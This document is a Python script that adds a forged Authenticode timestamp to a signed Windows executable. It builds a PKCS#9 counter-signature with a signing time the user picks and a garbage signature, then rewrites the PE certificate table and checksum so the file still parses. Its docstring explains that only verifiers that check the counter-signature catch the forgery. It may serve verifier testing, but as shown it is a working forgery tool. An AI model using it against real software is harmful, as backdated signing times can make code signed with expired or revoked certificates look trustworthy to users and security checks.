"""Adds a forged time stamp to a signed Windows program: a PKCS#9
counter-signature (unsigned attribute 1.2.840.113549.1.9.6) whose signing
time is chosen by whoever forges it and whose signature is garbage.

Nothing checks the program's own digest over its certificate table, so the
signature still covers the same bytes; only a verifier that checks the
counter-signature before it believes its time refuses it.

usage as a program: forged_countersignature.py IN OUT YYMMDDHHMMSSZ
"""
import struct
import sys

OID_COUNTER_SIGNATURE = "1.2.840.113549.1.9.6"
OID_CONTENT_TYPE = "1.2.840.113549.1.9.3"
OID_MESSAGE_DIGEST = "1.2.840.113549.1.9.4"
OID_SIGNING_TIME = "1.2.840.113549.1.9.5"
OID_DATA = "1.2.840.113549.1.7.1"
OID_SHA256 = "2.16.840.1.101.3.4.2.1"
OID_RSA = "1.2.840.113549.1.1.1"

SEQUENCE, SET, INTEGER, OCTET_STRING, NULL, OID, UTC_TIME = 0x30, 0x31, 0x02, 0x04, 0x05, 0x06, 0x17
CONTEXT_0, CONTEXT_1 = 0xA0, 0xA1  # constructed, context-specific


# --- DER, as much of it as a PKCS#7 SignedData needs -----------------------

def encode(tag, content):
    size = len(content)
    if size < 0x80:
        length = bytes([size])
    else:
        digits = size.to_bytes((size.bit_length() + 7) // 8, "big")
        length = bytes([0x80 | len(digits)]) + digits
    return bytes([tag]) + length + content


def read(data, at=0):
    """The element at `at`: (tag, content start, end)."""
    tag = data[at]
    first = data[at + 1]
    if first < 0x80:
        start, size = at + 2, first
    else:
        count = first & 0x7F
        start, size = at + 2 + count, int.from_bytes(data[at + 2:at + 2 + count], "big")
    return tag, start, start + size


def children(data, start, end):
    """The elements inside a constructed element's content, as byte strings."""
    items = []
    while start < end:
        _, _, item_end = read(data, start)
        items.append(data[start:item_end])
        start = item_end
    return items


def content(element):
    _, start, end = read(element)
    return element[start:end]


def oid(text):
    numbers = [int(n) for n in text.split(".")]
    body = bytes([40 * numbers[0] + numbers[1]])
    for number in numbers[2:]:
        chunk = [number & 0x7F]
        number >>= 7
        while number:
            chunk.insert(0, 0x80 | (number & 0x7F))
            number >>= 7
        body += bytes(chunk)
    return encode(OID, body)


def attribute(kind, value):
    return encode(SEQUENCE, oid(kind) + encode(SET, value))


def algorithm(kind):
    return encode(SEQUENCE, oid(kind) + encode(NULL, b""))


# --- The forged counter-signature ------------------------------------------

def counter_signer(issuer_and_serial, signing_time):
    """A SignerInfo that claims `signing_time`, signed by nobody."""
    attributes = (attribute(OID_CONTENT_TYPE, oid(OID_DATA)) +
                  attribute(OID_SIGNING_TIME, encode(UTC_TIME, signing_time.encode("ascii"))) +
                  attribute(OID_MESSAGE_DIGEST, encode(OCTET_STRING, bytes(32))))
    return encode(SEQUENCE,
                  encode(INTEGER, b"\x01") + issuer_and_serial + algorithm(OID_SHA256) +
                  encode(CONTEXT_0, attributes) + algorithm(OID_RSA) +
                  encode(OCTET_STRING, bytes([0x5A]) * 256))


def countersign(pkcs7, signing_time):
    """The ContentInfo `pkcs7` with the counter-signature added to its first signer."""
    content_info = children(pkcs7, *read(pkcs7)[1:])
    signed_data_wrapper = content_info[1]                 # [0] EXPLICIT SignedData
    signed_data = content(signed_data_wrapper)
    fields = children(signed_data, *read(signed_data)[1:])
    signer_infos = fields[-1]                             # SET OF SignerInfo
    signers = children(signer_infos, *read(signer_infos)[1:])
    signer = children(signers[0], *read(signers[0])[1:])
    if signer[-1][0] == CONTEXT_1:
        raise SystemExit("forged_countersignature: the signer has unsigned attributes already")
    forged = attribute(OID_COUNTER_SIGNATURE, counter_signer(signer[1], signing_time))
    signers[0] = encode(SEQUENCE, b"".join(signer) + encode(CONTEXT_1, forged))
    fields[-1] = encode(SET, b"".join(signers))
    signed_data_wrapper = encode(CONTEXT_0, encode(SEQUENCE, b"".join(fields)))
    return encode(SEQUENCE, content_info[0] + signed_data_wrapper)


# --- The program's certificate table ---------------------------------------

def certificate_directory(image):
    """Where the certificate table's directory entry is."""
    pe = struct.unpack_from("<I", image, 0x3C)[0]
    optional = pe + 24
    magic = struct.unpack_from("<H", image, optional)[0]
    return optional + (112 if magic == 0x20B else 96) + 4 * 8


def checksum(image, field):
    """The PE image checksum, over every 16-bit word but the checksum's own."""
    total = 0
    padded = image + bytes(len(image) % 2)
    for at in range(0, len(padded), 2):
        if field <= at < field + 4:
            continue
        total += struct.unpack_from("<H", padded, at)[0]
        total = (total & 0xFFFF) + (total >> 16)
    return ((total & 0xFFFF) + (total >> 16)) + len(image)


def add_forged_time(image, signing_time):
    image = bytearray(image)
    directory = certificate_directory(image)
    offset, size = struct.unpack_from("<II", image, directory)
    if offset + size != len(image):
        raise SystemExit("forged_countersignature: the certificate table is not at the end of the file")
    _, revision, kind = struct.unpack_from("<IHH", image, offset)
    pkcs7 = bytes(image[offset + 8:offset + size])
    pkcs7 = pkcs7[:read(pkcs7)[2]]  # without the table's padding
    body = countersign(pkcs7, signing_time)
    body += bytes(-(8 + len(body)) % 8)  # the table's entries are 8-byte aligned
    table = struct.pack("<IHH", 8 + len(body), revision, kind) + body
    struct.pack_into("<II", image, directory, offset, len(table))
    image = bytearray(image[:offset] + table)
    field = struct.unpack_from("<I", image, 0x3C)[0] + 24 + 64
    struct.pack_into("<I", image, field, checksum(image, field))
    return bytes(image)


def main():
    source, target, signing_time = sys.argv[1:4]
    with open(source, "rb") as f:
        image = f.read()
    with open(target, "wb") as f:
        f.write(add_forged_time(image, signing_time))


if __name__ == "__main__":
    main()
